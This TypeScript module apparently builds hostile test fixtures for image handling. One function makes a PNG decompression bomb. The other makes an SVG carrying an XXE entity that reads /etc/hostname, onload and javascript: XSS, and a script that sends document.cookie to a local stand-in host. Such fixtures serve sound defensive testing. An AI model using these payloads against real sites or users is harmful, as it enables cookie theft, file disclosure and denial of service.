import { crc32 } from 'node:zlib'
import { zlibZeros } from './zeros.ts'

const chunk = (type: string, body: Uint8Array): Buffer => {
  const typed = Buffer.concat([Buffer.from(type), body])
  const framed = Buffer.alloc(typed.length + 8)
  framed.writeUInt32BE(body.length, 0)
  framed.set(typed, 4)
  framed.writeUInt32BE(crc32(typed), typed.length + 4)
  return framed
}

/** A black picture of one bit a pixel: small as a file, gigabytes once decoded. */
export async function hugePng(width: number, height: number): Promise<Buffer> {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header.set([1, 0, 0, 0, 0], 8)
  const mebibytes = Math.ceil((height * (1 + Math.ceil(width / 8))) / (1 << 20))
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    chunk('IHDR', header),
    chunk('IDAT', zlibZeros(mebibytes)),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

/** A drawing that runs scripts and calls home when a browser shows it. */
export async function scriptedSvg(): Promise<Buffer> {
  return Buffer.from(
    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY file SYSTEM "file:///etc/hostname">]>` +
      `<svg xmlns="http://www.w3.org/2000/svg" width="400" height="200" onload="alert(document.domain)">` +
      `<script>fetch('http://127.0.0.1:9/?'+document.cookie)</script>` +
      `<image href="http://127.0.0.1:9/seen.png" width="1" height="1"/>` +
      `<foreignObject width="100" height="50"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject>` +
      `<text x="20" y="60">Stalls F 12 &file;</text></svg>`,
  )
}
